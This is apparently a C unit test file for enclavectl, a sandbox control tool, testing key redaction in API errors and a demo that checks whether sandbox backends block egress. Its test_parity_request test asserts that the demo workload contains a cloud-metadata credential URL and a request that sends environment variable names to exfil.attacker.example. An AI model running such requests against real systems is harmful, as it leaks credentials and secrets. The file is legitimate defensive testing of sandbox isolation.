/* enclavectl's API helpers, the parity demo's pure parts and run's exit codes. */
#include <config.h>

#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "common/clock.h"
#include "ctl/api.h"
#include "ctl/ctl.h"
#include "ctl/demo.h"


/* ---- the response parser ---- */

static void
test_apic_path(void **state)
{
	char buf[64];

	(void)state;
	assert_int_equal(apic_path(buf, sizeof(buf), "/v1/sessions/", "ses_AZ-09.~",
	    "/audit"), 0);
	assert_string_equal(buf, "/v1/sessions/ses_AZ-09.~/audit");
	assert_int_equal(apic_path(buf, sizeof(buf), "/v1/sessions/", "../a b?#%",
	    ""), 0);
	assert_string_equal(buf, "/v1/sessions/..%2Fa%20b%3F%23%25");
	assert_int_equal(apic_path(buf, sizeof(buf), "/v1/sessions/", "", ""), -1);
	assert_int_equal(apic_path(buf, sizeof(buf), "/v1/sessions/", ".", ""), -1);
	assert_int_equal(apic_path(buf, sizeof(buf), "/v1/sessions/", "..", ""), -1);
	assert_int_equal(apic_path(buf, 20, "/v1/sessions/", "ses_0123456789", ""), -1);
	assert_int_equal(apic_path(buf, 16, "/v1/sessions/", "ab", ""), 0);
	assert_int_equal(apic_path(buf, 15, "/v1/sessions/", "ab", ""), -1);
}

static void
test_apic_error_format(void **state)
{
	struct httpc_response r = { .status = 401 };
	char err[256], body[256];

	(void)state;
	strcpy(body, "{\"error\":{\"code\":\"unauthorized\",\"message\":"
	    "\"key sekrit-key-1 is not valid\\u001b[0m\"}}");
	r.body = body;
	r.body_len = strlen(body);
	apic_error_format(&r, "sekrit-key-1", err, sizeof(err));
	assert_string_equal(err, "401 unauthorized: key [redacted] is not valid?[0m");

	/* No key to mask, no message. */
	strcpy(body, "{\"error\":{\"code\":\"too_large\"}}");
	r.status = 413;
	r.body_len = strlen(body);
	apic_error_format(&r, NULL, err, sizeof(err));
	assert_string_equal(err, "413 too_large: (no message)");

	/* Not the API's error body: the reason phrase stands in. */
	strcpy(body, "<html>Bad Gateway</html>");
	r.status = 502;
	r.body_len = strlen(body);
	strcpy(r.reason, "Bad Gateway");
	apic_error_format(&r, "k", err, sizeof(err));
	assert_string_equal(err, "502 http_error: Bad Gateway");
	r.reason[0] = '\0';
	r.body_len = 0;
	apic_error_format(&r, NULL, err, sizeof(err));
	assert_string_equal(err, "502 http_error: unexpected response");

	/* A key cut by truncation never shows a prefix: masked before. */
	strcpy(body, "{\"error\":{\"code\":\"x\",\"message\":\"aaaaaaaaaa LONGKEY-0123456789\"}}");
	r.status = 400;
	r.body_len = strlen(body);
	apic_error_format(&r, "LONGKEY-0123456789", err, 24);
	assert_null(strstr(err, "LONGKEY"));
}

static void
test_apic_sanitize(void **state)
{
	char s[32];

	(void)state;
	strcpy(s, "a\tb\x7f" "c\xc2\x9b" "d\xc2\xb7");
	apic_sanitize(s);
	assert_string_equal(s, "a?b?c??d\xc2\xb7");
}

/* ---- the parity demo's pure parts ---- */

static void
test_parity_jwt(void **state)
{
	(void)state;
	assert_true(parity_jwt_found("eyJhbGciOiJ", 11));
	assert_true(parity_jwt_found("xx\"eyJ01234567\"", 15));
	assert_true(parity_jwt_found("eyJ-_-_-_-_", 11));
	assert_false(parity_jwt_found("eyJ1234567", 10));	/* 7 after eyJ */
	assert_false(parity_jwt_found("eyJhbGciOi", 9));	/* len cuts it */
	assert_false(parity_jwt_found("eyj12345678", 11));
	assert_false(parity_jwt_found("eyJ1234.5678", 12));
	assert_false(parity_jwt_found("ey", 2));
	assert_false(parity_jwt_found("", 0));
	assert_true(parity_jwt_found("eyJeyJ12345678", 14));
}

static void
test_parity_targets(void **state)
{
	struct parity_target t[PARITY_TARGETS_MAX];
	char err[256];
	size_t n = 0;

	(void)state;
	assert_int_equal(parity_targets_parse(" gvisor = http://127.0.0.1:8090 ,,"
	    "firecracker=unix:/run/fc.sock", "firecracker=k-fc, gvisor=",
	    t, PARITY_TARGETS_MAX, &n, err, sizeof(err)), 0);
	assert_int_equal(n, 2);
	assert_string_equal(t[0].label, "gvisor");
	assert_string_equal(t[0].url, "http://127.0.0.1:8090");
	assert_null(t[0].api_key);
	assert_string_equal(t[1].api_key, "k-fc");
	assert_null(t[1].backend);
	parity_targets_free(t, n);

	n = 0;
	assert_int_equal(parity_targets_parse("a=http://h:1,a=http://h:2", NULL, t,
	    PARITY_TARGETS_MAX, &n, err, sizeof(err)), -1);
	assert_non_null(strstr(err, "twice"));
	parity_targets_free(t, n);
	n = 0;
	assert_int_equal(parity_targets_parse("nolabel", NULL, t, PARITY_TARGETS_MAX,
	    &n, err, sizeof(err)), -1);
	parity_targets_free(t, n);
	n = 0;
	assert_int_equal(parity_targets_parse(" , ", NULL, t, PARITY_TARGETS_MAX, &n,
	    err, sizeof(err)), -1);
	parity_targets_free(t, n);
	n = 0;
	assert_int_equal(parity_targets_parse("a=http://u:pw1@h:1", NULL, t,
	    PARITY_TARGETS_MAX, &n, err, sizeof(err)), -1);
	assert_null(strstr(err, "pw1"));
	parity_targets_free(t, n);
	n = 0;
	assert_int_equal(parity_targets_parse("a=http://h:1", "b=secretkey", t,
	    PARITY_TARGETS_MAX, &n, err, sizeof(err)), -1);
	assert_null(strstr(err, "secretkey"));
	parity_targets_free(t, n);
	n = 0;
	assert_int_equal(parity_targets_parse("a=http://h:1", "secretkey", t,
	    PARITY_TARGETS_MAX, &n, err, sizeof(err)), -1);
	assert_null(strstr(err, "secretkey"));
	parity_targets_free(t, n);
	n = 0;
	assert_int_equal(parity_targets_parse("a=http://h:1,b=http://h:2,c=http://h:3",
	    NULL, t, 2, &n, err, sizeof(err)), -1);
	parity_targets_free(t, n);
}

static void
test_parity_request(void **state)
{
	json_t *a = parity_request(NULL), *b = parity_request("oci");
	char *sa, *sb;

	(void)state;
	sa = json_dumps(a, JSON_COMPACT | JSON_PRESERVE_ORDER);
	sb = json_dumps(b, JSON_COMPACT | JSON_PRESERVE_ORDER);
	assert_non_null(strstr(sa, "{\"language\":\"python\",\"code\":\"import enclave\\n"
	    "import os, json, urllib.request\\n"));
	assert_non_null(strstr(sa, "enclave.result({\\\"egressAttempted\\\": True})\","
	    "\"egress\":{\"allow\":[\"allowed.test\"]},\"wait\":true}"));
	assert_null(strstr(sa, "backend"));
	assert_non_null(strstr(sb, "\"backend\":\"oci\",\"egress\""));
	/* The workload is the same bytes either way. */
	assert_string_equal(json_string_value(json_object_get(a, "code")),
	    json_string_value(json_object_get(b, "code")));
	assert_non_null(strstr(parity_workload, "http://169.254.169.254/latest/meta-data/"
	    "iam/security-credentials/"));
	assert_non_null(strstr(parity_workload, "\"http://exfil.attacker.example/exfil?"
	    "dump=\" + \",\".join(os.environ.keys())"));
	free(sa);
	free(sb);
	json_decref(a);
	json_decref(b);
}

static json_t *
canned_audit(const char *first_host, const char *second_host)
{
	return json_pack("{s:[{s:s},{s:s},{s:s,s:{s:s}},{s:s,s:{s:s}},{s:s},{s:s},{s:s}]}",
	    "events",
	    "type", "session_created", "type", "sandbox_started",
	    "type", "egress_denied", "data", "host", first_host,
	    "type", "egress_denied", "data", "host", second_host,
	    "type", "result_collected", "type", "workload_exited",
	    "type", "usage_metered");
}

static void
test_parity_record_and_report(void **state)
{
	json_t *ses, *audit, *audit2, *recs, *fails, *rep, *rec, *v;
	char *md;

	(void)state;
	ses = json_pack("{s:s, s:s, s:s, s:{s:b}}", "id", "ses_1", "phase",
	    "succeeded", "stdout", "exfil blocked", "result", "egressAttempted", 1);
	audit = canned_audit(PARITY_ATTACKER_HOST, PARITY_METADATA_IP);
	recs = json_array();
	fails = json_array();
	rec = parity_record("gvisor", "http://127.0.0.1:8090", 41, ses, audit);
	assert_non_null(rec);
	v = json_object_get(rec, "verdict");
	assert_true(json_is_true(json_object_get(v, "egressDenied")));
	assert_true(json_is_true(json_object_get(v, "tokenWithheld")));
	assert_string_equal(json_string_value(json_object_get(v, "phase")), "succeeded");
	/* Sorted, whatever order the events came in. */
	assert_string_equal(json_string_value(json_array_get(json_object_get(v,
	    "deniedHosts"), 0)), PARITY_METADATA_IP);
	assert_int_equal(json_array_size(json_object_get(rec, "auditTypes")), 7);
	json_array_append_new(recs, rec);
	audit2 = canned_audit(PARITY_METADATA_IP, PARITY_ATTACKER_HOST);
	json_array_append_new(recs, parity_record("firecracker", "unix:/x", 7, ses,
	    audit2));
	rep = parity_report("real:multi", recs, fails);
	assert_non_null(rep);
	assert_int_equal(json_array_size(fails), 0);
	v = json_object_get(rep, "summary");
	assert_true(json_is_true(json_object_get(v, "passed")));
	assert_true(json_is_true(json_object_get(v, "parity")));
	assert_int_equal(json_integer_value(json_object_get(v, "backendCount")), 2);
	assert_int_equal(json_integer_value(json_object_get(v, "distinctVerdictShapes")), 1);
	md = parity_markdown(rep, fails);
	assert_non_null(strstr(md, "**PASSED**"));
	assert_non_null(strstr(md, "| firecracker | unix:/x | 7 | - | yes |"));
	free(md);
	json_decref(rep);
	json_decref(fails);
	json_decref(recs);
	json_decref(audit2);
	json_decref(audit);
	json_decref(ses);
}

static void
test_parity_failures(void **state)
{
	json_t *ses, *leaky, *audit, *one, *recs, *fails, *rep, *sum;
	char *md;

	(void)state;
	ses = json_pack("{s:s, s:s}", "id", "ses_1", "phase", "succeeded");
	leaky = json_pack("{s:s, s:s, s:s}", "id", "ses_2", "phase", "failed",
	    "stderr", "Bearer eyJhbGciOiJIUzI1NiJ9");
	audit = canned_audit(PARITY_METADATA_IP, PARITY_ATTACKER_HOST);
	one = json_pack("{s:[{s:s},{s:s,s:{s:s}},{s:s,s:{s:s}}]}", "events",
	    "type", "session_created", "type", "egress_denied", "data", "host",
	    PARITY_METADATA_IP, "type", "egress_denied", "data", "host",
	    PARITY_METADATA_IP);
	recs = json_array();
	fails = json_array();
	json_array_append_new(recs, parity_record("a|b", "u", 1, ses, audit));
	json_array_append_new(recs, parity_record("leaky", "u", 1, leaky, audit));
	json_array_append_new(recs, parity_record("partial", "u", 1, ses, one));
	json_array_append_new(recs, parity_record_failed("down", "u", 0,
	    "cannot connect to u"));
	rep = parity_report("lab", recs, fails);
	sum = json_object_get(rep, "summary");
	assert_false(json_is_true(json_object_get(sum, "passed")));
	assert_false(json_is_true(json_object_get(sum, "parity")));
	assert_int_equal(json_integer_value(json_object_get(sum, "distinctVerdictShapes")), 4);
	/* leaky: token, phase; partial: egress, types; down: one; parity: one. */
	assert_int_equal(json_array_size(fails), 6);
	assert_int_equal(json_integer_value(json_object_get(sum, "failures")), 6);
	assert_non_null(strstr(json_string_value(json_array_get(fails, 0)), "leaky: SECRET"));
	assert_non_null(strstr(json_string_value(json_array_get(fails, 5)),
	    "4 distinct verdict shapes across 4 backends"));
	md = parity_markdown(rep, fails);
	assert_non_null(strstr(md, "| a\\|b |"));
	assert_non_null(strstr(md, "## Failures"));
	free(md);
	json_decref(rep);

	/* Nothing ran: a failure, never a pass. */
	json_array_clear(recs);
	json_array_clear(fails);
	rep = parity_report("lab", recs, fails);
	sum = json_object_get(rep, "summary");
	assert_false(json_is_true(json_object_get(sum, "passed")));
	assert_false(json_is_true(json_object_get(sum, "parity")));
	assert_int_equal(json_array_size(fails), 1);
	json_decref(rep);
	json_decref(fails);
	json_decref(recs);
	json_decref(one);
	json_decref(audit);
	json_decref(leaky);
	json_decref(ses);
}

static void
test_run_exit(void **state)
{
	static const struct {
		const char *json;
		int rc;
	} cases[] = {
		{ "{\"phase\":\"succeeded\",\"exit_code\":0}", 0 },
		{ "{\"phase\":\"failed\",\"exit_code\":3}", 3 },
		{ "{\"phase\":\"failed\",\"exit_code\":0}", 1 },
		{ "{\"phase\":\"failed\",\"exit_code\":null,\"signal\":11}", 1 },
		{ "{\"phase\":\"failed\",\"exit_code\":255}", 125 },
		{ "{\"phase\":\"failed\",\"exit_code\":-5}", 1 },
		{ "{\"phase\":\"timed_out\"}", 124 },
		{ "{\"phase\":\"killed\"}", 137 },
		{ "{\"phase\":\"error\",\"error\":\"x\"}", 125 },
		{ "{\"phase\":\"running\"}", 1 },
		{ "{}", 1 },
	};
	json_t *j;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		assert_non_null(j = json_loads(cases[i].json, 0, NULL));
		assert_int_equal(ctl_run_exit(j), cases[i].rc);
		json_decref(j);
	}
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_apic_path),
		cmocka_unit_test(test_apic_error_format),
		cmocka_unit_test(test_apic_sanitize),
		cmocka_unit_test(test_parity_jwt),
		cmocka_unit_test(test_parity_targets),
		cmocka_unit_test(test_parity_request),
		cmocka_unit_test(test_parity_record_and_report),
		cmocka_unit_test(test_parity_failures),
		cmocka_unit_test(test_run_exit),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
